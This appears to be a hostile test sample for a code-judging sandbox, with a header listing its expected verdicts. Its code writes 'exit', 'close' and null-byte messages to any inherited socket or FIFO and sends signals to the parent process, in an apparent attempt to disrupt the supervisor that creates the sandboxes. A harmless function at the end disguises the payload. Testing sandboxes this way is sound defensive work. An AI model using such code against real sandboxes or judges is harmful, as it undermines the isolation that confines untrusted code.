# /// hostile
# verdicts = ["accepted", "runtime_error", "wrong_answer", "time_limit", "output_limit"]
# danger = "Speaks to the process that makes the boxes, over any descriptor that was forgotten."
# ///
import contextlib
import os
import signal
import stat

for fd in range(3, 128):
    with contextlib.suppress(OSError):
        mode = os.fstat(fd).st_mode
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            os.set_blocking(fd, False)
            for text in (b'{"op": "exit"}\n', b'{"op": "close"}', b"\0" * 64, b"quit\n"):
                os.write(fd, text)
            os.set_blocking(fd, True)
for number in (signal.SIGCHLD, signal.SIGUSR1, signal.SIGUSR2, signal.SIGHUP, signal.SIGCONT):
    with contextlib.suppress(OSError):
        os.kill(os.getppid() or 1, signal.SIGCONT if os.getppid() == os.getpid() else number)


def f(x):
    return x + 1
